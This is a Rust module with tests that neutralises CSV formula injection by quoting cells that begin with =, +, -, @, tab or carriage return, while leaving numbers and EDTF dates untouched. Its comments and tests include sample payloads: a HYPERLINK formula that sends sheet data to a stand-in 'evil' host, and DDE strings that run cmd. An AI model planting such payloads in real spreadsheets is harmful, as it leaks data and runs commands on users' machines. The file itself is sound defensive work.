//! CSV cells a spreadsheet would run as formulas, made inert (CSV injection).
//!
//! Excel, LibreOffice and Google Sheets take a cell that starts with `=`, `+`, `-` or `@` as a
//! formula (`=HYPERLINK("https://evil/?"&A1)` sends the sheet away, `+cmd|' /C calc'!A0`
//! runs a program through DDE), and a leading tab or carriage return can hide such a start.
//! As OWASP advises, [`guard_cell`] puts a `'` before such a cell, which a spreadsheet shows
//! as text and does not display. [`unguard_cell`] takes it off again, so that Detente reads
//! its own exports back as they were.
//!
//! Numbers (`-33.86`, a longitude) and EDTF dates (`-0044-03-15`, a year before the common
//! era) are left as they are: they hold no function, no reference and no DDE call, so a
//! spreadsheet can at worst compute them as a number, and guarding them would turn every
//! negative coordinate into text for anyone who sorts or plots the column.

use std::borrow::Cow;

/// Whether a cell should be written as it is or guarded against formulas.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum CsvCells {
    /// Cells that a spreadsheet would run as formulas start with `'` (the app's exports and
    /// the command line's default).
    #[default]
    Guarded,
    /// Every cell as it is, for scripts that read the file (`--raw`).
    Raw,
}

/// The guard [`guard_cell`] puts before a cell.
const GUARD: char = '\'';

/// The first characters that make a spreadsheet read a cell as a formula.
fn starts_a_formula(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// The cell with a `'` before it when a spreadsheet would run it as a formula.
pub fn guard_cell(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if starts_a_formula(c) && !is_inert(cell) => Cow::Owned(format!("{GUARD}{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// The cell without the `'` that [`guard_cell`] put before it; any other cell as it is.
pub fn unguard_cell(cell: &str) -> &str {
    match cell.strip_prefix(GUARD) {
        Some(rest) if rest.chars().next().is_some_and(starts_a_formula) => rest,
        _ => cell,
    }
}

/// A plain number or an EDTF date: a spreadsheet can only compute it as a number.
fn is_inert(cell: &str) -> bool {
    is_plain_number(cell) || crate::model::parse_edtf(cell).is_ok()
}

/// A decimal number with an optional sign, fraction and exponent (`-33.86`, `+1e3`); not
/// `inf` or `NaN`, which Rust would parse but a spreadsheet reads as names.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.trim_start_matches(['+', '-']);
    digits.len() + 1 >= cell.len()
        && digits.starts_with(|c: char| c.is_ascii_digit() || c == '.')
        && digits
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '.' | 'e' | 'E' | '+' | '-'))
        && cell.parse::<f64>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_guarded() {
        for cell in [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "- draft, to be confirmed",
            "-inf",
            "+NaN",
            "--1",
        ] {
            assert_eq!(guard_cell(cell), format!("'{cell}"), "{cell:?}");
            assert_eq!(unguard_cell(&guard_cell(cell)), cell);
        }
    }

    #[test]
    fn numbers_dates_and_text_stay_as_they_are() {
        for cell in [
            "-33.8688",
            "+151.2093",
            "-1e3",
            "-0044-03-15",
            "-0044-03-15/-0044-03-17",
            "-0044~",
            "2025-12-20",
            "Talks in Miami",
            "a = b",
            "",
            "'quoted'",
        ] {
            assert_eq!(guard_cell(cell), cell, "{cell:?}");
            assert_eq!(unguard_cell(cell), cell, "{cell:?}");
        }
    }
}
